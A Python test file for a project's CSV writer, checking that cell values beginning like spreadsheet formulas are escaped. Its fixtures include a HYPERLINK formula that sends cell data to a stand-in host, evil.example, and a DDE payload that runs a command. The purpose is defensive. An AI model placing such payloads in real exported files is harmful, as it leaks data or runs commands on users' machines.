"""No CSV file that is written here holds a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from securefair.data.sheets import csv_text, guarded, unguarded

ROOT = Path(__file__).parents[3]
EVIL = '=HYPERLINK("http://evil.example/?d="&D2,"other")'
READ_BACK = {"sheets.py", "text_records.py", "made_up.py"}
"""The writer itself; a table in memory; made-up tables, whose headings are ours."""


@pytest.mark.parametrize(
    "text",
    [EVIL, "+1+cmd|' /C calc'!A1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-x", "\uff1d1+1"],
)
def test_what_begins_like_a_formula_is_a_text(text):
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text",
    ["", "-", "+", "=", "@", "-5", "+3.5", "-1e-5", "-5,3", "-1.000,5", "-.5", "-5 %", "a=b", "'a"],
)
def test_numbers_and_other_texts_stay(text):
    assert guarded(text) == unguarded(text) == text


@given(st.text())
def test_nothing_runs_whatever_is_written(text):
    (row,) = csv.reader(io.StringIO(csv_text([[text, 1.5, None]]), newline=""))
    assert row[1:] == ["1.5", ""]
    runs = row[0][:1] in tuple("=+-@\t\r\n") and len(row[0]) > 1
    assert not runs or re.fullmatch(r"[+-]?[\d.,eE+-]+\s*%?", row[0])


def test_headings_and_numbers_of_any_kind():
    assert csv_text([["=a", "b"], [-1, -2.5]]) == "'=a,b\n-1,-2.5\n"


def test_no_module_writes_csv_files_by_itself():
    writers = {
        path.name
        for folder in (ROOT / "src", ROOT / "lab" / "src")
        for path in folder.rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|\bto_csv\b", path.read_text("utf-8"))
    }
    assert writers == READ_BACK
